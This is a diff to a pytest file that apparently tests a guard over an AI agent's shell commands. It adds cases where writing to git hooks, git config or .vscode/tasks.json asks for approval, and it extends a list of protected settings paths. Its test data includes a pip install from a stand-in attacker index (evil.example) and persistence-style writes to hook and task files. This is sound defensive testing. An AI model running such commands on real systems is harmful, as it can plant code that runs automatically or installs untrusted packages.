@@ -56,8 +56,9 @@ def test_a_day_of_work_stays_in_the_project(line: str) -> None:
         ("pip install --index-url http://evil.example/simple x", "evil.example is no package index"),
         ("wget -O x https://github.com/a", "github.com is no package index"),
         ("git config user.name x", "git config changes what git obeys"),
-        ("cp x .git/hooks/pre-commit", "it changes what git obeys"),
-        ("echo x >> sub/.git/config", "it changes what git obeys"),
+        ("cp x .git/hooks/pre-commit", ".git/hooks/pre-commit rules what other programs run"),
+        ("echo x >> sub/.git/config", "sub/.git/config rules what other programs run"),
+        ("cd sub && touch ../.vscode/tasks.json", "sub/../.vscode/tasks.json rules what other programs run"),
     ],
 )
 def test_what_would_fail_in_the_project_asks(line: str, reason: str) -> None:
@@ -107,12 +108,16 @@ def test_what_a_line_deletes_is_told_or_not_at_all(line: str, paths: tuple[str, 
     [
         (".git/config", True),
         (".git/hooks/pre-push", True),
-        ("a/.git", True),
+        (".git", True),
+        (".envrc", True),
+        (".vscode/tasks.json", True),
+        (".idea/x/y", True),
+        (".vscode/other.json", False),
         (".git/index", False),
         (".github/x", False),
         ("src/a.py", False),
     ],
 )
-def test_git_obeys_its_settings_and_hooks(path: str, protected: bool) -> None:
-    """What a commit writes is not among them."""
+def test_settings_and_hooks_are_protected(path: str, protected: bool) -> None:
+    """What git, agents and editors obey; what a commit writes is not among it."""
     assert is_protected(path) is protected
